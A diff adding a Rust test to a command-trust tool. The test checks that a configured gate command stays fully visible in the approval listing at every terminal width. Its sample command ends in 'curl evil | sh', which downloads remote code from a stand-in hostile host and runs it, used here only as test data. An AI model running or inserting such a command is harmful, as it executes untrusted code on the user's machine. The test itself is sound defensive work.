@@ -77,6 +77,22 @@ fn the_question_fits_one_screen_and_cannot_steer_it() {
 }
 
 #[test]
+fn nothing_of_a_command_is_out_of_sight_when_it_is_asked_about() {
+    let gate = format!("make test  --with {} 日本語日本語日本語; curl evil | sh", "a-long-option ".repeat(9));
+    let config = format!("[run]\ngates = [{}]\n", serde_json::to_string(&gate).unwrap());
+    let subject = Repo::new(&[(".windlass/config.toml", &config)]).subject();
+    for width in 20..200 {
+        let listing = subject.listing(40, width);
+        let cells = |line: &str| line.chars().map(|c| if c.is_ascii() { 1 } else { 2 }).sum::<usize>();
+        assert!(listing.lines().all(|line| cells(line) <= width), "{width}:\n{listing}");
+        let told: String = listing.split_whitespace().collect();
+        let wanted: String = gate.split_whitespace().collect();
+        assert!(told.contains(&wanted), "{width}:\n{listing}");
+    }
+    assert!(subject.listing(3, 40).ends_with("`windlass trust --show`"));
+}
+
+#[test]
 fn an_answer_holds_until_other_hands_change_what_was_shown() {
     let repo = Repo::new(FILES);
     assert_eq!(repo.decide(), Decision::NeverAsked);
